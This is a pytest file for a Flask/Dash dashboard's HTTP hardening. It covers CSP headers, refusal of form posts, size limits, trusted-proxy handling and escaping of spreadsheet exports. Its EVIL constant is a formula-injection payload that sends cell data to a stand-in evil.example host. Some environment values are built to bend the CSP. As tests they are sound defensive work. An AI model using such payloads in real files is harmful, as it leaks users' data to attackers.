"""HTTP hardening (issue 13, callbacks/access/security.py) on the real app and a real Valkey,
and the pages in headless Chromium under their Content-Security-Policy.

Feature codes: sec101 CSP, nosniff, Referrer-Policy and framing on pages, the API and a 404,
every inline script allowed by its hash; sec102 the settings shape the policy (framing,
camera sources, the relay's host) and are read from the environment; sec103 a form post, a
text body or a bare POST is refused, JSON and X-Requested-With pass; sec104 an oversized
body is a JSON 413; sec105 X-Forwarded-* are believed only from configured proxies, and the
session cookie is Secure behind them; sec106 an export's formula-like text stays text (CSV
and xlsx); sec107 each page renders in Chromium under the CSP with a clean console, routed
without any Referer.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import re
import time
from collections.abc import Iterator
from typing import Any

import pytest
import redis
from flask import request

from callbacks.archive.stats import csv_text
from dashboard.access.audit import Audit
from dashboard.archive.stats import EXPORT_COLUMNS
from dashboard.config import Settings
from dashboard.store import Store
from dashboard.video.wall import VideoWall
from feeds.redis_server import free_port
from feeds.sim.video import VideoServer, VideoService
from layouts import ids

from ..app.test_wall_browser import make_event, now_ms, wait_for
from ..auth_util import XHR, browser_sign_in, make_app, make_user, session_key, sign_in
from ..conftest import Stack

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
PAGES = ("/", "/cockpit", "/video", "/duty", "/duty/handover")
SCRIPT = re.compile(r"<script(?P<attrs>[^>]*)>(?P<body>.*?)</script>", re.S)


@pytest.fixture
def app(redis_url: str) -> Any:
    return make_app(redis_url)


def csp(res: Any) -> dict[str, list[str]]:
    """The response's Content-Security-Policy as directive → sources."""
    policy = res.headers["Content-Security-Policy"]
    parts = [p.split() for p in policy.split(";") if p.strip()]
    return {p[0]: p[1:] for p in parts}


def inline_scripts(page: str) -> list[str]:
    """The bodies of the scripts a browser would run inline (not data blocks, not files)."""
    out = []
    # a script inside an HTML comment (Dash's `<!--[if IE]>` warning) is never run
    page = re.sub(r"<!--.*?-->", "", page, flags=re.S)
    for m in SCRIPT.finditer(page):
        attrs = m.group("attrs")
        kind = re.search(r'type="([^"]+)"', attrs)
        if "src=" in attrs or (kind and kind.group(1) not in ("text/javascript",
                                                              "application/javascript")):
            continue
        out.append(m.group("body"))
    return out


def sha256_source(script: str) -> str:
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    return f"'sha256-{digest}'"


def check_headers(res: Any, ws_port: int) -> dict[str, list[str]]:
    policy = csp(res)
    assert policy["default-src"] == ["'self'"]
    assert policy["script-src"][0] == "'self'"
    assert all(s.startswith("'sha256-") for s in policy["script-src"][1:]), policy
    assert policy["style-src"] == ["'self'", "'unsafe-inline'"]
    assert policy["object-src"] == ["'none'"] and policy["base-uri"] == ["'self'"]
    assert policy["frame-ancestors"] == ["'none'"]
    assert {f"ws://localhost:{ws_port}", f"wss://localhost:{ws_port}"} <= set(
        policy["connect-src"])
    assert "'unsafe-inline'" not in policy["script-src"]
    assert "'unsafe-eval'" not in res.headers["Content-Security-Policy"]
    assert res.headers["X-Content-Type-Options"] == "nosniff"
    assert res.headers["Referrer-Policy"] == "same-origin"
    assert res.headers["X-Frame-Options"] == "DENY"
    return policy


# -- headers -------------------------------------------------------------------------------


def test_sec101_csp_and_headers_on_every_page_the_api_and_a_404(app: Any,
                                                                  r: redis.Redis) -> None:
    ws_port = Settings().ws_port
    anon = app.server.test_client()
    login = anon.get("/login?next=/video")
    assert login.status_code == 200
    policy = check_headers(login, ws_port)
    scripts = inline_scripts(login.get_data(as_text=True))
    assert len(scripts) == 1 and sha256_source(scripts[0]) in policy["script-src"]

    http = app.server.test_client()
    sign_in(http, r, "commander")
    for path in PAGES:
        res = http.get(path)
        assert res.status_code == 200, path
        policy = check_headers(res, ws_port)
        scripts = inline_scripts(res.get_data(as_text=True))
        assert scripts, path  # Dash's renderer at least: the check below is not empty
        for script in scripts:
            assert sha256_source(script) in policy["script-src"], (path, script[:60])
    for path, status in (("/api/me", 200), ("/api/nothing", 404), ("/geo/moon.geojson", 404),
                         ("/assets/nothing.js", 404), ("/_dash-layout", 200)):
        res = http.get(path)
        assert res.status_code == status, path
        check_headers(res, ws_port)
    # the headers go on refusals too
    check_headers(anon.get("/api/me"), ws_port)
    check_headers(anon.get("/"), ws_port)


def test_sec102_settings_shape_the_policy(redis_url: str, r: redis.Redis,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    default = make_app(redis_url).server.test_client().get("/login")
    # no setting: camera pictures from the demo video server only (its four ports)
    demo = [f"http://127.0.0.1:{8060 + i}" for i in range(4)]
    assert csp(default)["img-src"] == ["'self'", "data:", "blob:", *demo]
    assert csp(default)["media-src"] == ["'self'", "blob:", *demo]
    assert csp(default)["worker-src"] == ["'self'", "blob:"]  # hls.js's worker

    cams = ("https://cams.example.gov", "http://10.0.0.5:8060")
    app = make_app(redis_url, media_sources=cams, frame_ancestors=("'self'",),
                   tile_url="http://{s}.tiles.example.gov/{z}/{x}/{y}.png",
                   ws_public_url="wss://wall.example.gov/ws")
    res = app.server.test_client().get("/login")
    policy = csp(res)
    assert policy["img-src"] == ["'self'", "data:", "blob:", "http://*.tiles.example.gov",
                                 *cams]
    assert policy["media-src"] == ["'self'", "blob:", *cams]
    assert policy["connect-src"] == ["'self'", *cams, "wss://wall.example.gov"]
    assert policy["frame-ancestors"] == ["'self'"] and res.headers["X-Frame-Options"] == \
        "SAMEORIGIN"
    # framed by another origin: X-Frame-Options cannot say so and is left out
    app = make_app(redis_url, frame_ancestors=("'self'", "https://portal.example.gov"))
    res = app.server.test_client().get("/login")
    assert csp(res)["frame-ancestors"] == ["'self'", "https://portal.example.gov"]
    assert "X-Frame-Options" not in res.headers

    # from the environment, once; anything that would bend the policy is refused
    monkeypatch.setenv("CC_MEDIA_SOURCES", "https://cams.example.gov, http://10.0.0.5:8060")
    monkeypatch.setenv("CC_FRAME_ANCESTORS", "self https://portal.example.gov")
    monkeypatch.setenv("CC_MAX_CONTENT_LENGTH", "2mb")
    monkeypatch.setenv("CC_TRUSTED_PROXIES", "1")
    monkeypatch.setenv("CC_COOKIE_SECURE", "true")
    settings = Settings.from_env()
    assert settings.media_sources == cams
    assert settings.frame_ancestors == ("'self'", "https://portal.example.gov")
    assert (settings.max_content_length, settings.trusted_proxies, settings.cookie_secure) == \
        (2 << 20, 1, "true")
    for name, bad in (("CC_MEDIA_SOURCES", "https://x;script-src"),
                      ("CC_MEDIA_SOURCES", "'unsafe-inline'"),
                      ("CC_FRAME_ANCESTORS", "none https://portal.example.gov"),
                      ("CC_COOKIE_SECURE", "maybe"), ("CC_MAX_CONTENT_LENGTH", "0")):
        with monkeypatch.context() as env:
            env.setenv(name, bad)
            with pytest.raises(ValueError, match=name):
                Settings.from_env()


# -- requests ------------------------------------------------------------------------------


def test_sec103_forms_and_bare_posts_are_refused(app: Any, r: redis.Redis) -> None:
    http = app.server.test_client()
    token = sign_in(http, r, "commander")
    event = {"type": "fire", "severity": 3, "lon": 119.96, "lat": 36.78, "title": "x"}
    for kwargs, status, code in (
            ({"data": {"type": "fire", "severity": "3"}}, 415, "json_required"),  # a form
            ({"data": "type=fire", "content_type": "application/x-www-form-urlencoded"}, 415,
             "json_required"),
            ({"data": '{"type": "fire"}', "content_type": "text/plain"}, 415,
             "json_required"),
            ({"data": {"f": (io.BytesIO(b"x"), "x.txt")}}, 415, "json_required"),
            ({}, 403, "xhr_required")):
        res = http.post("/api/events", **kwargs)
        assert res.status_code == status, kwargs
        assert res.is_json and res.get_json()["code"] == code, kwargs
    # refused before the route: none of them even became an audited attempt
    assert [e for e in Audit(r, "cc:").entries(50) if e["action"] == "event.report"] == []
    # a form post to /logout leaves the session as it was
    res = http.post("/logout", data={"x": "1"})
    assert res.status_code == 415 and res.is_json
    assert http.get("/api/me").status_code == 200 and r.exists(session_key(token))
    res = http.put("/api/video/layouts/A", data="grid=4")
    assert res.status_code == 415
    assert http.delete("/api/duty/silence").status_code == 403
    # what the browser glue sends passes: JSON, or no body with X-Requested-With
    assert http.post("/api/events", json=event).status_code not in (403, 415)
    assert [e["action"] for e in Audit(r, "cc:").entries(50)].count("event.report") == 1
    assert http.delete("/api/duty/silence", headers=XHR).status_code == 200
    res = http.post("/api/alerts/A-nope/ack", json={"note": ""})
    assert res.status_code == 404 and res.get_json()["error"]
    res = http.post("/logout", headers=XHR)
    assert res.status_code == 302 and not r.exists(session_key(token))


def test_sec104_an_oversized_body_is_a_json_413(redis_url: str, r: redis.Redis) -> None:
    http = make_app(redis_url, max_content_length=4096).server.test_client()
    sign_in(http, r, "commander")
    big = {"type": "fire", "severity": 3, "lon": 119.96, "lat": 36.78, "title": "长" * 3000}
    res = http.post("/api/events", json=big)
    assert res.status_code == 413 and res.is_json
    assert res.get_json()["code"] == "too_large" and res.get_json()["status"] == 413
    # the default, 1 MiB
    http = make_app(redis_url).server.test_client()
    sign_in(http, r, "commander")
    res = http.put("/api/roster", data=b" " * ((1 << 20) + 1), content_type="application/json")
    assert res.status_code == 413 and res.is_json
    res = http.put("/api/roster", data=b"[]", content_type="application/json")
    assert res.status_code == 400  # a small body gets as far as the route


def test_sec105_forwarded_headers_only_from_configured_proxies(redis_url: str,
                                                               r: redis.Redis) -> None:
    forwarded = {"X-Forwarded-For": "203.0.113.7", "X-Forwarded-Proto": "https",
                 "X-Forwarded-Host": "wall.example.gov"}
    name, password = make_user(r, "commander", "proxied")
    body = {"username": name, "password": password}

    def login(**overrides: Any) -> tuple[Any, dict[str, Any]]:
        http = make_app(redis_url, **overrides).server.test_client()
        res = http.post("/api/login", json=body, headers=forwarded)
        assert res.status_code == 200
        entry = next(e for e in Audit(r, "cc:").entries(20) if e["action"] == "login")
        return res, entry

    # no proxy configured: anyone can send these headers, so they change nothing
    res, entry = login()
    assert entry["ip"] == "127.0.0.1"
    assert "; Secure" not in res.headers["Set-Cookie"]
    assert "ws://localhost:" in res.headers["Content-Security-Policy"]
    assert "wall.example.gov" not in res.headers["Content-Security-Policy"]
    # one proxy: the client's address, HTTPS and the public host come from it
    res, entry = login(trusted_proxies=1)
    assert entry["ip"] == "203.0.113.7"
    assert "; Secure" in res.headers["Set-Cookie"] and "HttpOnly" in res.headers["Set-Cookie"]
    assert "wss://wall.example.gov:" in res.headers["Content-Security-Policy"]
    # TLS ending at a proxy that does not say so: CC_COOKIE_SECURE=true
    http = make_app(redis_url, cookie_secure="true").server.test_client()
    res = http.post("/api/login", json=body)
    assert res.status_code == 200 and "; Secure" in res.headers["Set-Cookie"]


# -- exports -------------------------------------------------------------------------------


def test_sec106_an_export_is_data_never_a_formula(stack: Stack, r: redis.Redis) -> None:
    from openpyxl import load_workbook

    stack.publish("event", make_event("EV-EVIL", 2, title=EVIL, address="+86 532 8888"))
    stack.publish("event", make_event("EV-PLAIN", 3, title="普通事件"))
    stack.wait_seq(2)
    http = stack.app.server.test_client()
    sign_in(http, r, "leader")
    res = http.get("/api/export?format=csv")
    assert res.status_code == 200
    table = list(csv.reader(io.StringIO(res.get_data().decode("utf-8-sig"))))
    rows = {row[0]: dict(zip(EXPORT_COLUMNS, row, strict=True)) for row in table[1:]}
    assert rows["EV-EVIL"]["title"] == "'" + EVIL
    assert rows["EV-EVIL"]["address"] == "'+86 532 8888"
    assert rows["EV-PLAIN"]["title"] == "普通事件" and rows["EV-EVIL"]["severity"] == "2"

    res = http.get("/api/export?format=xlsx")
    assert res.status_code == 200
    sheet = load_workbook(io.BytesIO(res.get_data())).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    by_id = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    title = by_id["EV-EVIL"][EXPORT_COLUMNS.index("title")]
    assert (title.value, title.data_type) == (EVIL, "s")  # the text itself, as a string
    severity = by_id["EV-EVIL"][EXPORT_COLUMNS.index("severity")]
    assert (severity.value, severity.data_type) == (2, "n")


def test_sec106_only_text_is_escaped() -> None:
    assert [csv_text(v) for v in (-3, -2.5, 0, "-3", "@x", "\tx", "\rx", "a=b", "", None)] == \
        [-3, -2.5, 0, "'-3", "'@x", "'\tx", "'\rx", "a=b", "", None]


# -- the browser ---------------------------------------------------------------------------


@pytest.fixture
def camera_server(stack: Stack) -> Iterator[VideoServer]:
    """The demo video server on a free port, for a camera on the video wall."""
    server = VideoServer(VideoService(stack.settings), "127.0.0.1", [free_port()])
    with server:
        yield server


def no_referrer(app: Any) -> list[tuple[str, str | None]]:
    """Make the pages send no Referer at all (the meta tag overrides the header's policy) and
    record what Dash's own requests carried, to show the router never had one."""
    app.index_string = app.index_string.replace(
        "{%metas%}", '{%metas%}<meta name="referrer" content="no-referrer">')
    seen: list[tuple[str, str | None]] = []

    @app.server.before_request
    def record() -> None:
        if request.path.startswith("/_dash-"):
            seen.append((request.path, request.referrer))

    return seen


@pytest.mark.browser
@pytest.mark.parametrize(("path", "root", "page"), [
    ("/", ids.ROOT, "wall"), ("/video", ids.VW_ROOT, "video"),
    ("/cockpit", ids.CK_ROOT, "cockpit"), ("/duty", ids.DUTY_ROOT, "duty"),
    ("/duty/handover", ids.HANDOVER_ROOT, "handover"),
], ids=["wall", "video", "cockpit", "duty", "handover"])
def test_sec107_each_page_renders_under_the_csp_without_a_referer(
        dash_duo: Any, stack: Stack, camera_server: VideoServer, path: str, root: str,
        page: str) -> None:
    app = stack.app
    seen = no_referrer(app)
    dash_duo.start_server(app, navigate=False, port=free_port())
    browser_sign_in(dash_duo, stack.client, "commander", name="sec-chief")
    driver = dash_duo.driver
    if page == "video":  # a live camera on the wall: pictures from another origin
        stack.publish("camera", {"id": "CAM-S1", "lon": 119.96, "lat": 36.78, "ts": now_ms(),
                                 "name": "测试探头", "online": True, "stream_type": "mjpeg",
                                 "stream_url": f"http://127.0.0.1:{camera_server.ports[0]}"
                                               "/video/CAM-S1.mjpg"})
        stack.wait_seq(1)
        VideoWall(Store(stack.client, stack.settings.prefix)).set_wall(
            {"grid": 1, "tiles": ["CAM-S1"], "follow": False}, "sec-chief")
    seen.clear()
    driver.get(dash_duo.server.url.rstrip("/") + path + "?lang=en")

    def js(script: str) -> Any:
        return driver.execute_script(script)

    wait_for(lambda: js(f"return !!document.getElementById('{root}')"), 10, f"the {page} page")
    wait_for(lambda: js("return !!(window.ccwall && ccwall.connected)"), 10, "the websocket")
    assert js("return ccwall.page") == page
    assert js(f"return document.getElementById('{root}').lang") == "en"  # ?lang= honoured
    if page == "video":
        wait_for(lambda: js("return document.querySelectorAll("
                            "'.cc-vw-screen[data-state=\"playing\"]').length") == 1, 10,
                 "the camera playing")
    if page == "wall":  # the city's outline: GeoJSON fetched and drawn
        # (drawn on a canvas: the fetch is what the CSP could have stopped)
        wait_for(lambda: js("return performance.getEntriesByType('resource').some("
                            "function (e) { return e.name.indexOf('/geo/boundary.geojson')"
                            " >= 0; })"), 10, "the city's boundaries")
        assert js(f"return document.querySelectorAll('#{ids.MAP} canvas').length") > 0
    time.sleep(0.5)  # let late requests (polls, tiles) land in the console if they fail
    assert dash_duo.get_logs() == []
    layout = [p for p in seen if p[0] in ("/_dash-layout", "/_dash-update-component")]
    assert {p for p, _ in layout} == {"/_dash-layout", "/_dash-update-component"}, seen
    assert all(referer is None for _, referer in seen), seen

    if page == "wall":
        # the CSP is enforced, and a violation is what get_logs() would have shown
        js("var s = document.createElement('script'); s.textContent = 'window.__ccx = 1';"
           " document.head.appendChild(s);")
        time.sleep(0.3)
        assert js("return window.__ccx === undefined")
        logs = dash_duo.get_logs()
        assert logs and all("Content Security Policy" in e["message"] for e in logs), logs
        # signing out: the header's button posts from script, then opens the sign-in page
        driver.find_element("id", ids.SIGN_OUT).click()
        wait_for(lambda: "/login" in driver.current_url, 10, "the sign-in page")
        assert "lang=en" in driver.current_url
        driver.get(dash_duo.server.url.rstrip("/") + "/api/me")
        assert "sign in first" in driver.page_source
